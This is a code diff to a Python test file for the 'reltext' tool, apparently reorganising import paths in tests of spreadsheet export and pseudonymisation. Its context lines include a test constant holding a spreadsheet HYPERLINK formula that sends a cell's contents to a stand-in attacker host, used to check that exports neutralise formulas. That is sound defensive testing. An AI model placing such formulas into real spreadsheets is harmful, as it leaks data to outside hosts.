@@ -10,8 +10,8 @@ import pytest
 
 from reltext import Project
 from reltext.model import Verdict
-from reltext.review import decide
-from reltext.spreadsheet import inert, restored
+from reltext.review.decisions import decide
+from reltext.exchange.spreadsheet import inert, restored
 
 # A speaker, a turn's opening, a manifest value and a reviewer that a spreadsheet would run.
 SPEAKER = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")"
@@ -106,7 +106,7 @@ def test_spreadsheet_pseudonymisation_report_and_key(tmp_path, run_cli):
                    "--key-out", str(key), "--report", str(report)).exit_code == 0
     assert _formulas(_cells(key.read_bytes())) == [] and "'-Dave Smith" in key.read_text()
     assert _formulas(_cells(report.read_bytes())) == []
-    from reltext.pseudonymise import PseudonymKey
+    from reltext.corpus.pseudonymise import PseudonymKey
 
     assert any(original == "-Dave Smith"
                for originals in PseudonymKey.load(key).originals.values()
